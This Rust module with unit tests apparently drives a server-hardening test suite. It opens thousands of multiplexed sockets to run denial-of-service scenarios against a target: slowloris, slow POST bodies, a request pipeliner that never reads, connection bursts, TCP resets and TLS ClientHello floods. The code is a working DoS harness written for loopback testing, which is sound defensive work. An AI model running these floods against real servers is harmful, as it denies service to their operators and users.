//! The attacking side: up to a few thousand sockets multiplexed on one
//! thread with mio (non-blocking, edge-triggered), so that the attack costs
//! the machine little CPU and the server gets its share. Sockets are opened
//! at most [`OPEN_RATE`] a second by default (`--open-rate`), from the
//! source addresses asked for in turn (`--source`; the TLS form's attacker
//! is on other loopback addresses than the well-behaved client's), with
//! small kernel buffers (so that a
//! non-reading peer cannot make the kernel hold megabytes per socket), and
//! closed with a reset at the end of the scenario (no `TIME_WAIT` left for
//! the next one).

use std::collections::{BTreeMap, VecDeque};
use std::io::{self, ErrorKind, Read, Write};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use mio::net::TcpStream;
use mio::{Events, Interest, Poll, Token};

/// New hostile connections per second, at most (every scenario), unless
/// `--open-rate` says otherwise.
pub const OPEN_RATE: u64 = 1000;
/// A slowloris sends one more byte of its head this often.
pub const SLOWLORIS_GAP: Duration = Duration::from_secs(1);
/// A slow body sends one more byte this often.
pub const SLOW_BODY_GAP: Duration = Duration::from_secs(5);
/// A connection the server closed is opened again this long after (the
/// `Retry-After: 1` of a `503`), so that the scenario measures its own
/// attack rather than a reconnect storm; the resets scenario, which closes
/// its own connections, reconnects at once (still within [`OPEN_RATE`]).
pub const RECONNECT_AFTER: Duration = Duration::from_secs(1);
/// A connect still pending after this is given up.
const CONNECT_LIMIT: Duration = Duration::from_secs(10);
/// A reset mid-head or mid-body comes this long after the partial send.
const RESET_AFTER: Duration = Duration::from_millis(50);
/// A reset mid-response waits at most this long for the response's start.
const RESET_LIMIT: Duration = Duration::from_secs(1);
/// The kernel buffers of each hostile socket.
const RECV_BUFFER: usize = 4096;
const SEND_BUFFER: usize = 16 * 1024;

const GET: &[u8] = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
const SLOW_HEAD: &[u8] = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slowloris: ";
const SLOW_BODY_HEAD: &[u8] =
    b"POST /upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000000\r\n\r\n";
const CUT_HEAD: &[u8] = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Cut: mid-he";
const CUT_BODY_HEAD: &[u8] =
    b"POST /upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000\r\n\r\n";
/// Bytes of body sent before a reset mid-body.
const CUT_BODY_BYTES: usize = 4000;
/// Requests pipelined before a reset mid-response.
const CUT_RESPONSE_REQUESTS: usize = 100;

/// One attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Scenario {
    /// Each connection sends one `GET`, reads the answer, then sits idle;
    /// reconnects when closed.
    IdleFlood,
    /// Each connection sends its head one byte a second, never ending it;
    /// reconnects after the server's `408` (or any close).
    Slowloris,
    /// Each connection sends a whole head announcing a 1,000,000-byte body,
    /// then one byte of it every 5 s; reconnects when closed.
    SlowBody,
    /// Each connection pipelines `GET`s as fast as the server takes them and
    /// never reads a response; reconnects when dropped.
    Pipeliner,
    /// One wave of connections (no reconnects) opened at up to 1,000 a
    /// second, each sending one `GET` and staying open, even after the
    /// server closed its side (a peer that never closes): how many beyond
    /// the cap are answered `503`, closed unanswered, or left hanging.
    Burst,
    /// Connections reset (RST) mid-head, mid-body and mid-response in turn,
    /// then reconnect.
    Resets,
    /// TLS (`--tls`): each connection opens TCP and sends nothing;
    /// reconnects when closed.
    TlsSilent,
    /// TLS: each connection sends the first half of a ClientHello, then
    /// nothing; reconnects when closed.
    TlsPartialHello,
    /// TLS: each connection sends a whole ClientHello (the server does a
    /// key exchange and signs), resets the connection once the server's
    /// answer begins, and reconnects at once (within the open rate), as it
    /// does when the server closes it unanswered; one that gets no answer
    /// stalls until the server closes it.
    TlsHelloFlood,
}

impl Scenario {
    /// Every plain-HTTP scenario, in the order the suite runs them.
    pub const ALL: [Scenario; 6] = [
        Scenario::IdleFlood,
        Scenario::Slowloris,
        Scenario::SlowBody,
        Scenario::Pipeliner,
        Scenario::Burst,
        Scenario::Resets,
    ];

    /// The TLS scenarios (`--tls`), in the order the suite runs them.
    pub const TLS: [Scenario; 3] = [
        Scenario::TlsSilent,
        Scenario::TlsPartialHello,
        Scenario::TlsHelloFlood,
    ];

    /// The name `--only` takes.
    pub fn name(self) -> &'static str {
        match self {
            Scenario::IdleFlood => "idle-flood",
            Scenario::Slowloris => "slowloris",
            Scenario::SlowBody => "slow-body",
            Scenario::Pipeliner => "pipeliner",
            Scenario::Burst => "burst",
            Scenario::Resets => "resets",
            Scenario::TlsSilent => "tls-silent",
            Scenario::TlsPartialHello => "tls-partial-hello",
            Scenario::TlsHelloFlood => "tls-hello-flood",
        }
    }

    /// The scenario named `name`.
    pub fn parse(name: &str) -> Option<Scenario> {
        Scenario::ALL
            .into_iter()
            .chain(Scenario::TLS)
            .find(|s| s.name() == name)
    }

    /// Whether it speaks TLS (its target must be a TLS server).
    pub fn tls(self) -> bool {
        Scenario::TLS.contains(&self)
    }

    fn reconnects(self) -> bool {
        self != Scenario::Burst
    }

    /// Whether the attacker reads what the server sends.
    fn reads(self) -> bool {
        self != Scenario::Pipeliner
    }
}

/// What the hostile side saw in one scenario.
#[derive(Clone, Debug, Default)]
pub struct Tally {
    /// Connections opened (connect started).
    pub opened: u64,
    /// Connects that failed (refused, or no port left) or timed out.
    pub connect_failed: u64,
    /// The most hostile connections open at once.
    pub peak_open: u64,
    /// The first response status on each connection that got one.
    pub statuses: BTreeMap<u16, u64>,
    /// Connections the server closed (end of stream) before any response.
    pub closed_unanswered: u64,
    /// Connections the server reset before any response.
    pub reset_unanswered: u64,
    /// Connections the server closed or reset after a response (or, for
    /// the pipeliner, which reads none, at all). The burst keeps its end
    /// of these open until the end of the scenario.
    pub closed_after: u64,
    /// How long the server held each connection it closed, at most.
    pub held_max: Duration,
    /// Resets this side sent (the resets and TLS hello-flood scenarios).
    pub resets_sent: u64,
    /// Connections whose first bytes from the server were a TLS handshake
    /// record (the answer to a whole ClientHello: a key exchange done).
    pub handshakes_answered: u64,
    /// At the end: connections open, of which connected with a request
    /// sent and no response byte yet, and connects still pending.
    pub open_at_end: u64,
    /// See [`Tally::open_at_end`].
    pub unanswered_at_end: u64,
    /// See [`Tally::open_at_end`].
    pub pending_at_end: u64,
}

impl Tally {
    /// One line for the report.
    pub fn line(&self) -> String {
        let statuses = self
            .statuses
            .iter()
            .map(|(s, n)| format!("{s}×{n}"))
            .collect::<Vec<_>>()
            .join(" ");
        format!(
            "opened {} (peak open {}, connect failed {}), first answers [{}], TLS handshakes answered {}, closed unanswered {}, reset unanswered {}, closed after {} (held up to {:.1} s), resets sent {}; at the end open {} (unanswered {}, connecting {})",
            self.opened,
            self.peak_open,
            self.connect_failed,
            if statuses.is_empty() { "none".into() } else { statuses },
            self.handshakes_answered,
            self.closed_unanswered,
            self.reset_unanswered,
            self.closed_after,
            self.held_max.as_secs_f64(),
            self.resets_sent,
            self.open_at_end,
            self.unanswered_at_end,
            self.pending_at_end,
        )
    }
}

/// One hostile connection.
struct Sock {
    stream: TcpStream,
    connected: bool,
    opened_at: Instant,
    /// When the next timed step is due (slow bytes, resets, connect limit).
    next_at: Instant,
    /// Bytes of this connection's script sent so far.
    sent: usize,
    /// The first bytes received (for the status), and whether any came.
    first: [u8; 12],
    first_len: usize,
    /// For the resets scenario: 0 mid-head, 1 mid-body, 2 mid-response.
    cut: u8,
}

impl Sock {
    fn answered(&self) -> bool {
        self.first_len > 0
    }
}

/// Why a connection ends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum End {
    /// The server closed it (end of stream).
    Closed,
    /// The server reset it, or a write failed.
    Reset,
    /// This side reset it (resets scenario).
    Cut,
    /// The connect failed or took too long.
    ConnectFailed,
}

/// How an attack is made beyond its scenario and size.
#[derive(Clone, Debug)]
pub struct Means {
    /// New connections a second, at most.
    pub open_rate: u64,
    /// The addresses the hostile sockets are bound to, in turn (empty: the
    /// system's choice).
    pub sources: Vec<std::net::IpAddr>,
    /// The ClientHello record the TLS scenarios send (empty for the others).
    pub hello: Vec<u8>,
}

impl Default for Means {
    fn default() -> Means {
        Means {
            open_rate: OPEN_RATE,
            sources: Vec::new(),
            hello: Vec::new(),
        }
    }
}

/// Runs `scenario` with `connections` hostile sockets against `addr` for
/// `duration`, by `means`; every socket is closed before it returns.
pub fn run(
    addr: SocketAddr,
    scenario: Scenario,
    connections: usize,
    duration: Duration,
    means: &Means,
) -> io::Result<Tally> {
    let mut a = Attack {
        addr,
        sources: means.sources.clone(),
        scenario,
        poll: Poll::new()?,
        socks: Vec::new(),
        free: Vec::new(),
        open: 0,
        waiting: VecDeque::new(),
        seq: 0,
        tally: Tally::default(),
        scratch: vec![0u8; 16 * 1024],
        pipelined: GET.repeat(64),
        cut_response: GET.repeat(CUT_RESPONSE_REQUESTS),
        parked: Vec::new(),
        hello: means.hello.clone(),
    };
    let mut events = Events::with_capacity(1024);
    let start = Instant::now();
    let end = start + duration;
    let result = loop {
        let now = Instant::now();
        if now >= end {
            break Ok(());
        }
        // Open up to the target, at most `open_rate` a second (a burst of 10),
        // leaving out the connections waiting to reconnect.
        while a.waiting.front().is_some_and(|&t| t <= now) {
            a.waiting.pop_front();
        }
        let allowed = means.open_rate * now.duration_since(start).as_millis() as u64 / 1000 + 10;
        while a.open + a.waiting.len() < connections
            && a.tally.opened < allowed
            && (scenario.reconnects() || (a.tally.opened as usize) < connections)
        {
            a.open_one(now);
        }
        // Timed steps.
        for i in 0..a.socks.len() {
            let due = a.socks[i].as_ref().is_some_and(|s| s.next_at <= now);
            if due {
                if let Some(end) = a.timed(i, now) {
                    a.close(i, end, now);
                }
            }
        }
        if let Err(e) = a.poll.poll(&mut events, Some(Duration::from_millis(10))) {
            if e.kind() != ErrorKind::Interrupted {
                break Err(e);
            }
        }
        let now = Instant::now();
        for ev in events.iter() {
            let i = ev.token().0;
            if let Some(end) = a.event(
                i,
                ev.is_readable() || ev.is_read_closed() || ev.is_error(),
                ev.is_read_closed() || ev.is_error(),
                ev.is_writable() || ev.is_write_closed(),
                now,
            ) {
                a.close(i, end, now);
            }
        }
    };
    a.finish();
    result.map(|()| a.tally)
}

struct Attack {
    addr: SocketAddr,
    sources: Vec<std::net::IpAddr>,
    scenario: Scenario,
    poll: Poll,
    socks: Vec<Option<Sock>>,
    free: Vec<usize>,
    open: usize,
    /// When each connection closed so far may be opened again (in order).
    waiting: VecDeque<Instant>,
    seq: u64,
    tally: Tally,
    scratch: Vec<u8>,
    pipelined: Vec<u8>,
    cut_response: Vec<u8>,
    /// Burst connections the server closed, kept open on this side.
    parked: Vec<TcpStream>,
    /// The TLS scenarios' ClientHello record.
    hello: Vec<u8>,
}

impl Attack {
    fn open_one(&mut self, now: Instant) {
        self.tally.opened += 1;
        self.seq += 1;
        let source = match self.sources.len() {
            0 => None,
            n => Some(self.sources[(self.seq % n as u64) as usize]),
        };
        let mut stream = match connect(self.addr, source) {
            Ok(s) => s,
            Err(_) => {
                self.tally.connect_failed += 1;
                if self.scenario.reconnects() {
                    self.waiting.push_back(now + RECONNECT_AFTER);
                }
                return;
            }
        };
        let i = self.free.pop().unwrap_or_else(|| {
            self.socks.push(None);
            self.socks.len() - 1
        });
        if self
            .poll
            .registry()
            .register(
                &mut stream,
                Token(i),
                Interest::READABLE | Interest::WRITABLE,
            )
            .is_err()
        {
            self.tally.connect_failed += 1;
            self.free.push(i);
            return;
        }
        self.socks[i] = Some(Sock {
            stream,
            connected: false,
            opened_at: now,
            next_at: now + CONNECT_LIMIT,
            sent: 0,
            first: [0; 12],
            first_len: 0,
            cut: (self.seq % 3) as u8,
        });
        self.open += 1;
        self.tally.peak_open = self.tally.peak_open.max(self.open as u64);
    }

    /// A spread of `gap` for connection `seq`, so that timed sends do not
    /// all fall in the same tick.
    fn stagger(seq: u64, gap: Duration) -> Duration {
        gap * ((seq.wrapping_mul(7919) % 1000) as u32) / 1000
    }

    /// The connect completed: the script's first step.
    fn connected(&mut self, i: usize, now: Instant) -> Option<End> {
        let scenario = self.scenario;
        let seq = self.seq;
        let s = self.socks[i].as_mut()?;
        s.connected = true;
        s.next_at = now + Duration::from_secs(3600);
        match scenario {
            Scenario::IdleFlood | Scenario::Burst => send(s, GET).err(),
            Scenario::Slowloris => {
                s.next_at = now + Self::stagger(seq, SLOWLORIS_GAP);
                None
            }
            Scenario::SlowBody => {
                let r = send(s, SLOW_BODY_HEAD).err();
                s.next_at = now + Self::stagger(seq, SLOW_BODY_GAP);
                r
            }
            Scenario::Pipeliner => pipeline(s, &self.pipelined).err(),
            Scenario::Resets => {
                let r = match s.cut {
                    0 => send(s, CUT_HEAD),
                    1 => send(s, CUT_BODY_HEAD).and_then(|()| send_all(s, &[b'x'; CUT_BODY_BYTES])),
                    _ => send(s, &self.cut_response),
                };
                s.next_at = now + if s.cut == 2 { RESET_LIMIT } else { RESET_AFTER };
                r.err()
            }
            Scenario::TlsSilent => None,
            Scenario::TlsPartialHello => send(s, &self.hello[..self.hello.len() / 2]).err(),
            Scenario::TlsHelloFlood => send(s, &self.hello).err(),
        }
    }

    /// A timed step is due.
    fn timed(&mut self, i: usize, now: Instant) -> Option<End> {
        let s = self.socks[i].as_mut()?;
        if !s.connected {
            return Some(End::ConnectFailed);
        }
        match self.scenario {
            Scenario::Slowloris => {
                let byte = SLOW_HEAD.get(s.sent).copied().unwrap_or(b'a');
                s.next_at = now + SLOWLORIS_GAP;
                send_byte(s, byte).err()
            }
            Scenario::SlowBody => {
                s.next_at = now + SLOW_BODY_GAP;
                send_byte(s, b'x').err()
            }
            Scenario::Resets => Some(End::Cut),
            _ => {
                s.next_at = now + Duration::from_secs(3600);
                None
            }
        }
    }

    /// A readiness event.
    fn event(
        &mut self,
        i: usize,
        readable: bool,
        read_closed: bool,
        writable: bool,
        now: Instant,
    ) -> Option<End> {
        let s = self.socks.get_mut(i)?.as_mut()?;
        if !s.connected {
            if !writable && !readable {
                return None;
            }
            match s.stream.take_error() {
                Ok(Some(_)) | Err(_) => return Some(End::ConnectFailed),
                Ok(None) => {}
            }
            match s.stream.peer_addr() {
                Ok(_) => {}
                Err(e) if e.kind() == ErrorKind::NotConnected => return None,
                Err(_) => return Some(End::ConnectFailed),
            }
            if let Some(end) = self.connected(i, now) {
                return Some(end);
            }
        }
        let s = self.socks[i].as_mut()?;
        if self.scenario == Scenario::Pipeliner {
            // It never reads: the server's close shows as the end of its
            // stream (`read_closed`), its reset as a failed write.
            if read_closed {
                return Some(End::Closed);
            }
            if writable {
                return pipeline(s, &self.pipelined).err();
            }
            return None;
        }
        if readable {
            loop {
                match s.stream.read(&mut self.scratch) {
                    Ok(0) => return Some(End::Closed),
                    Ok(n) => {
                        let take = n.min(s.first.len() - s.first_len);
                        s.first[s.first_len..s.first_len + take]
                            .copy_from_slice(&self.scratch[..take]);
                        s.first_len += take;
                        if self.scenario == Scenario::Resets && s.cut == 2 {
                            return Some(End::Cut);
                        }
                        if self.scenario == Scenario::TlsHelloFlood {
                            return Some(End::Cut);
                        }
                    }
                    Err(e) if e.kind() == ErrorKind::WouldBlock => break,
                    Err(e) if e.kind() == ErrorKind::Interrupted => {}
                    Err(_) => return Some(End::Reset),
                }
            }
        }
        None
    }

    fn close(&mut self, i: usize, end: End, now: Instant) {
        let Some(mut s) = self.socks.get_mut(i).and_then(Option::take) else {
            return;
        };
        self.free.push(i);
        self.open -= 1;
        // A flood of hellos comes back at once, answered or not.
        let at_once = matches!(end, End::Cut) || self.scenario == Scenario::TlsHelloFlood;
        if self.scenario.reconnects() && !at_once {
            self.waiting.push_back(now + RECONNECT_AFTER);
        }
        if s.first_len >= 12 {
            if let Some(status) = std::str::from_utf8(&s.first[9..12])
                .ok()
                .and_then(|t| t.parse::<u16>().ok())
            {
                *self.tally.statuses.entry(status).or_insert(0) += 1;
            }
        }
        if self.scenario.tls() && s.first[0] == 22 && s.first_len > 0 {
            self.tally.handshakes_answered += 1;
        }
        let answered = s.answered() || !self.scenario.reads();
        match end {
            End::ConnectFailed => self.tally.connect_failed += 1,
            End::Cut => self.tally.resets_sent += 1,
            End::Closed | End::Reset => {
                self.tally.held_max = self.tally.held_max.max(now - s.opened_at);
                match (answered, end) {
                    (true, _) => self.tally.closed_after += 1,
                    (false, End::Closed) => self.tally.closed_unanswered += 1,
                    (false, _) => self.tally.reset_unanswered += 1,
                }
            }
        }
        let _ = self.poll.registry().deregister(&mut s.stream);
        if self.scenario == Scenario::Burst && matches!(end, End::Closed) {
            // A burst's peer never closes: the socket stays open (the
            // server's side waits for our end of stream) until the end.
            self.parked.push(s.stream);
            return;
        }
        reset_on_close(&s.stream);
    }

    /// Counts what is still open and closes every socket with a reset.
    fn finish(&mut self) {
        for s in self.socks.iter_mut().filter_map(Option::take) {
            self.tally.open_at_end += 1;
            if !s.connected {
                self.tally.pending_at_end += 1;
            } else if s.first_len >= 12 {
                if let Some(status) = std::str::from_utf8(&s.first[9..12])
                    .ok()
                    .and_then(|t| t.parse::<u16>().ok())
                {
                    *self.tally.statuses.entry(status).or_insert(0) += 1;
                }
            } else if !s.answered()
                && self.scenario.reads()
                && matches!(self.scenario, Scenario::IdleFlood | Scenario::Burst)
            {
                self.tally.unanswered_at_end += 1;
            }
            reset_on_close(&s.stream);
        }
        self.open = 0;
        for stream in self.parked.drain(..) {
            reset_on_close(&stream);
        }
    }
}

/// Opens a non-blocking connection to `addr` (from `source`, when given)
/// with small kernel buffers.
fn connect(addr: SocketAddr, source: Option<std::net::IpAddr>) -> io::Result<TcpStream> {
    use rustix::net::{sockopt, AddressFamily, SocketFlags, SocketType};
    let family = if addr.is_ipv4() {
        AddressFamily::INET
    } else {
        AddressFamily::INET6
    };
    let fd = rustix::net::socket_with(
        family,
        SocketType::STREAM,
        SocketFlags::NONBLOCK | SocketFlags::CLOEXEC,
        None,
    )?;
    sockopt::set_socket_recv_buffer_size(&fd, RECV_BUFFER)?;
    sockopt::set_socket_send_buffer_size(&fd, SEND_BUFFER)?;
    if let Some(ip) = source {
        rustix::net::bind(&fd, &SocketAddr::new(ip, 0))?;
    }
    match rustix::net::connect(&fd, &addr) {
        Ok(()) | Err(rustix::io::Errno::INPROGRESS) => {}
        Err(e) => return Err(e.into()),
    }
    Ok(TcpStream::from_std(std::net::TcpStream::from(fd)))
}

/// Makes the coming close a reset (SO_LINGER 0).
fn reset_on_close(stream: &TcpStream) {
    let _ = rustix::net::sockopt::set_socket_linger(stream, Some(Duration::ZERO));
}

/// Sends the rest of `script` (from `s.sent`) as far as the socket takes
/// it now.
fn send(s: &mut Sock, script: &[u8]) -> Result<(), End> {
    while s.sent < script.len() {
        match s.stream.write(&script[s.sent..]) {
            Ok(0) => return Err(End::Reset),
            Ok(n) => s.sent += n,
            Err(e) if e.kind() == ErrorKind::WouldBlock => return Ok(()),
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(_) => return Err(End::Reset),
        }
    }
    Ok(())
}

/// Sends `bytes` after what was sent (small: fits the send buffer).
fn send_all(s: &mut Sock, bytes: &[u8]) -> Result<(), End> {
    match s.stream.write(bytes) {
        Ok(n) => {
            s.sent += n;
            Ok(())
        }
        Err(e) if e.kind() == ErrorKind::WouldBlock => Ok(()),
        Err(_) => Err(End::Reset),
    }
}

/// Sends one byte (a slow peer's next step).
fn send_byte(s: &mut Sock, byte: u8) -> Result<(), End> {
    match s.stream.write(&[byte]) {
        Ok(n) => {
            s.sent += n;
            Ok(())
        }
        Err(e) if e.kind() == ErrorKind::WouldBlock => Ok(()),
        Err(_) => Err(End::Reset),
    }
}

/// Writes pipelined `GET`s until the socket takes no more.
fn pipeline(s: &mut Sock, pipelined: &[u8]) -> Result<(), End> {
    loop {
        let at = s.sent % GET.len();
        match s.stream.write(&pipelined[at..]) {
            Ok(0) => return Err(End::Reset),
            Ok(n) => s.sent += n,
            Err(e) if e.kind() == ErrorKind::WouldBlock => return Ok(()),
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(_) => return Err(End::Reset),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::TcpListener;
    use std::sync::atomic::{AtomicU64, Ordering};
    use std::sync::Arc;
    use std::thread;

    /// A loopback server, a thread per connection: answers every head with
    /// `status` (and closes after it when `close`), counts connections and
    /// resets seen.
    fn server(status: &'static str, close: bool) -> (SocketAddr, Arc<AtomicU64>, Arc<AtomicU64>) {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap();
        let (conns, resets) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
        let (c, r) = (Arc::clone(&conns), Arc::clone(&resets));
        thread::spawn(move || {
            for s in l.incoming().take(200) {
                let Ok(mut s) = s else { continue };
                c.fetch_add(1, Ordering::SeqCst);
                let r = Arc::clone(&r);
                thread::spawn(move || {
                    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
                    let mut got = Vec::new();
                    let mut buf = [0u8; 4096];
                    loop {
                        match s.read(&mut buf) {
                            Ok(0) => return,
                            Ok(n) => got.extend_from_slice(&buf[..n]),
                            Err(e) => {
                                if e.kind() == ErrorKind::ConnectionReset {
                                    r.fetch_add(1, Ordering::SeqCst);
                                }
                                return;
                            }
                        }
                        if let Some(i) = got.windows(4).position(|w| w == b"\r\n\r\n") {
                            got.drain(..i + 4);
                            let answer = format!("HTTP/1.1 {status}\r\nContent-Length: 0\r\n\r\n");
                            let _ = s.write_all(answer.as_bytes());
                            if close {
                                return;
                            }
                        }
                    }
                });
            }
        });
        (addr, conns, resets)
    }

    #[test]
    fn a_burst_opens_each_connection_once_and_reads_its_answer() {
        let (addr, conns, _) = server("200 OK", false);
        let t = run(
            addr,
            Scenario::Burst,
            5,
            Duration::from_millis(500),
            &Means::default(),
        )
        .unwrap();
        assert_eq!(t.opened, 5, "{}", t.line());
        assert_eq!(t.statuses.get(&200), Some(&5), "{}", t.line());
        assert_eq!((t.open_at_end, t.unanswered_at_end), (5, 0), "{}", t.line());
        assert_eq!(conns.load(Ordering::SeqCst), 5);
    }

    #[test]
    fn a_burst_peer_never_closes_even_after_the_server_does() {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap();
        let server = thread::spawn(move || {
            let (mut s, _) = l.accept().unwrap();
            let mut buf = [0u8; 256];
            let _ = s.read(&mut buf).unwrap();
            s.write_all(b"HTTP/1.1 503 Service Unavailable\r\nContent-Length: 0\r\n\r\n")
                .unwrap();
            s.shutdown(std::net::Shutdown::Write).unwrap();
            s.set_read_timeout(Some(Duration::from_millis(500)))
                .unwrap();
            s.read(&mut buf).map_err(|e| e.kind())
        });
        let t = run(
            addr,
            Scenario::Burst,
            1,
            Duration::from_millis(1000),
            &Means::default(),
        )
        .unwrap();
        assert_eq!(t.statuses.get(&503), Some(&1), "{}", t.line());
        let after = server.join().unwrap();
        assert!(
            matches!(after, Err(ErrorKind::WouldBlock | ErrorKind::TimedOut)),
            "the peer closed: {after:?}"
        );
    }

    #[test]
    fn closed_connections_reconnect_a_second_later() {
        let (addr, conns, _) = server("503 Service Unavailable", true);
        let t = run(
            addr,
            Scenario::IdleFlood,
            3,
            Duration::from_millis(1500),
            &Means::default(),
        )
        .unwrap();
        // Three at once, three again after RECONNECT_AFTER; no more.
        assert_eq!(t.opened, 6, "{}", t.line());
        assert_eq!(t.statuses.get(&503), Some(&6), "{}", t.line());
        assert_eq!((t.closed_after, t.open_at_end), (6, 0), "{}", t.line());
        assert_eq!(conns.load(Ordering::SeqCst), 6);
    }

    #[test]
    fn resets_reach_the_server_as_resets() {
        let (addr, _, resets) = server("200 OK", false);
        let t = run(
            addr,
            Scenario::Resets,
            3,
            Duration::from_millis(600),
            &Means::default(),
        )
        .unwrap();
        assert!(t.resets_sent >= 3, "{}", t.line());
        thread::sleep(Duration::from_millis(200));
        // Mid-head and mid-body cuts leave the server reading: it sees RST.
        assert!(resets.load(Ordering::SeqCst) >= 2, "{}", t.line());
    }

    #[test]
    fn a_slowloris_sends_its_head_a_byte_at_a_time() {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap();
        let reader = thread::spawn(move || {
            let (mut s, _) = l.accept().unwrap();
            s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let mut got = Vec::new();
            let mut buf = [0u8; 64];
            while let Ok(n) = s.read(&mut buf) {
                if n == 0 {
                    break;
                }
                got.extend_from_slice(&buf[..n]);
            }
            got
        });
        let t = run(
            addr,
            Scenario::Slowloris,
            1,
            Duration::from_millis(2500),
            &Means::default(),
        )
        .unwrap();
        let got = reader.join().unwrap();
        assert_eq!(t.opened, 1);
        // Two or three bytes in 2.5 s, the start of the head.
        assert!((2..=3).contains(&got.len()), "{got:?}");
        assert!(SLOW_HEAD.starts_with(&got));
    }

    fn tls(hello: &[u8]) -> Means {
        Means {
            hello: hello.to_vec(),
            ..Means::default()
        }
    }

    /// A server that reads what each connection sends, answers the first
    /// read with a TLS-looking record when `answer`, and returns what it
    /// read from each connection once the peer is gone.
    fn tls_server(answer: bool) -> (SocketAddr, std::sync::mpsc::Receiver<Vec<u8>>) {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        thread::spawn(move || {
            for s in l.incoming().take(50) {
                let Ok(mut s) = s else { continue };
                let tx = tx.clone();
                thread::spawn(move || {
                    s.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
                    let mut got = Vec::new();
                    let mut buf = [0u8; 4096];
                    while let Ok(n) = s.read(&mut buf) {
                        if n == 0 {
                            break;
                        }
                        if got.is_empty() && answer {
                            let _ = s.write_all(&[22, 3, 3, 0, 1, 2]);
                        }
                        got.extend_from_slice(&buf[..n]);
                    }
                    let _ = tx.send(got);
                });
            }
        });
        (addr, rx)
    }

    #[test]
    fn a_hello_flood_sends_whole_hellos_and_reconnects_once_answered() {
        let hello: Vec<u8> = (0..600u32).map(|i| i as u8).collect();
        let (addr, rx) = tls_server(true);
        let t = run(
            addr,
            Scenario::TlsHelloFlood,
            2,
            Duration::from_millis(500),
            &tls(&hello),
        )
        .unwrap();
        assert!(t.handshakes_answered >= 4, "{}", t.line());
        assert!(t.resets_sent >= 4, "{}", t.line());
        let got = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        assert_eq!(got, hello);
    }

    #[test]
    fn a_partial_hello_sends_half_and_a_silent_socket_nothing() {
        let hello: Vec<u8> = (0..600u32).map(|i| i as u8).collect();
        let (addr, rx) = tls_server(false);
        let t = run(
            addr,
            Scenario::TlsPartialHello,
            1,
            Duration::from_millis(300),
            &tls(&hello),
        )
        .unwrap();
        assert_eq!((t.opened, t.handshakes_answered), (1, 0), "{}", t.line());
        assert_eq!(
            rx.recv_timeout(Duration::from_secs(5)).unwrap(),
            &hello[..300]
        );
        let t = run(
            addr,
            Scenario::TlsSilent,
            1,
            Duration::from_millis(300),
            &tls(&hello),
        )
        .unwrap();
        assert_eq!(t.opened, 1, "{}", t.line());
        assert_eq!(rx.recv_timeout(Duration::from_secs(5)).unwrap(), b"");
    }

    #[test]
    fn the_sockets_come_from_the_source_asked_for() {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap();
        let peer = thread::spawn(move || l.accept().unwrap().1);
        let means = Means {
            sources: vec![[127, 0, 0, 2].into()],
            ..Means::default()
        };
        run(
            addr,
            Scenario::TlsSilent,
            1,
            Duration::from_millis(200),
            &means,
        )
        .unwrap();
        assert_eq!(
            peer.join().unwrap().ip(),
            std::net::IpAddr::from([127, 0, 0, 2])
        );
    }

    #[test]
    fn scenario_names_round_trip() {
        for s in Scenario::ALL.into_iter().chain(Scenario::TLS) {
            assert_eq!(Scenario::parse(s.name()), Some(s));
        }
        assert_eq!(Scenario::parse("nope"), None);
    }

    #[test]
    fn stagger_stays_within_the_gap() {
        for seq in 0..2000 {
            assert!(Attack::stagger(seq, SLOW_BODY_GAP) < SLOW_BODY_GAP);
        }
    }
}
